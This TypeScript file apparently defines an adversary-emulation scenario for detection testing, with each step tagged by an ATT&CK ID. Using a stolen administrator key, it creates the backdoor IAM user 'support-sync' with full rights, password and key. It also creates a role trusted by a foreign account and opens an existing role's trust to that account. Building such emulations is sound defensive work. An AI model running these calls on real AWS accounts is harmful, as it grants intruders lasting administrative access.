import { elsewhere, foreignAccount } from "../places.ts";
import {
  administratorAccess,
  ensureRole,
  ensureUser,
  policyOf,
  removeRole,
  removeUser,
  renewKey,
  trustIn,
} from "../set-up.ts";
import { defineStory, matter } from "../story.ts";

const [newUser, newRole, oldRole] = ["support-sync", "SupportAccess", "orders-service-role"];

/** An intruder makes sure to come back: by a user, by a role, and by a role that was there. */
export const backdoor = defineStory({
  name: "backdoor",
  title: "A backdoor user and a backdoor role",
  summary:
    "With the key of the administrator hugo somebody at 192.0.2.151 makes the user support-sync with password, key and all rights, makes a role that another company's account may take on, and opens the trust policy of a role that was there to that account",
  actors: [
    { name: "hugo", does: "is an administrator, and asleep" },
    { name: "intruder", does: "has hugo's key" },
  ],
  matters: {
    user: matter("iam", "CreateUser", "T1136.003", "A user that nobody asked for is made"),
    password: matter("iam", "CreateLoginProfile", "T1098.001", "The new user gets a password for the console"),
    rights: matter("iam", "AttachUserPolicy", "T1098.003", "The new user may do everything"),
    key: matter("iam", "CreateAccessKey", "T1098.001", "The new user gets an access key"),
    role: matter("iam", "CreateRole", "T1136.003", "A role trusts an account that is not the company's"),
    roleRights: matter("iam", "AttachRolePolicy", "T1098.003", "The foreign account may do everything by that role"),
    trust: matter("iam", "UpdateAssumeRolePolicy", "T1098", "A role that was there trusts the foreign account too"),
    firstUse: matter("sts", "GetCallerIdentity", "T1078.004", "The new user's key is tried"),
  },
  async setUp(stage) {
    const by = stage.administrator("shop");
    await removeUser(by, newUser);
    await removeRole(by, newRole);
    await ensureUser(by, { name: "hugo", policies: [administratorAccess] });
    const trusts = [{ Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" }];
    await ensureRole(by, { name: oldRole, trusts });
  },
  async play(stage, matters) {
    const { random, accounts, company } = stage;
    const credentials = await renewKey(stage.administrator("shop"), "hugo");
    const intruder = stage.actor({
      name: "intruder",
      accountId: accounts.shop,
      region: company.homeRegion,
      credentials,
      tool: "cli-on-linux",
      sourceIp: elsewhere.rentedServer,
    });
    await intruder.call("sts", "GetCallerIdentity", {});
    await intruder.call("iam", "ListUsers", {});
    await intruder.call("iam", "GetAccountSummary", {});
    await stage.pause(2 + random.int(5));
    stage.mark(matters.user);
    await intruder.call("iam", "CreateUser", { UserName: newUser });
    stage.mark(matters.password);
    await intruder.call("iam", "CreateLoginProfile", { UserName: newUser, Password: `${random.letters(20)}aB3!` });
    stage.mark(matters.rights);
    await intruder.call("iam", "AttachUserPolicy", { UserName: newUser, PolicyArn: administratorAccess });
    stage.mark(matters.key);
    const { AccessKey: key } = await intruder.call("iam", "CreateAccessKey", { UserName: newUser });
    await stage.pause(1 + random.int(3));
    const trust = trustIn(`arn:aws:iam::${foreignAccount}:root`);
    stage.mark(matters.role);
    await intruder.call("iam", "CreateRole", { RoleName: newRole, AssumeRolePolicyDocument: policyOf(trust) });
    stage.mark(matters.roleRights);
    await intruder.call("iam", "AttachRolePolicy", { RoleName: newRole, PolicyArn: administratorAccess });
    await intruder.call("iam", "GetRole", { RoleName: oldRole });
    stage.mark(matters.trust);
    const service = { Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" };
    await intruder.call("iam", "UpdateAssumeRolePolicy", {
      RoleName: oldRole,
      PolicyDocument: policyOf(service, trust),
    });
    await stage.pause(20 + random.int(40));
    const backdoorUser = intruder.as({
      name: newUser,
      credentials: { accessKeyId: key?.AccessKeyId ?? "", secretAccessKey: key?.SecretAccessKey ?? "" },
    });
    stage.mark(matters.firstUse);
    await backdoorUser.call("sts", "GetCallerIdentity", {});
    await backdoorUser.call("s3", "ListBuckets", {});
  },
});
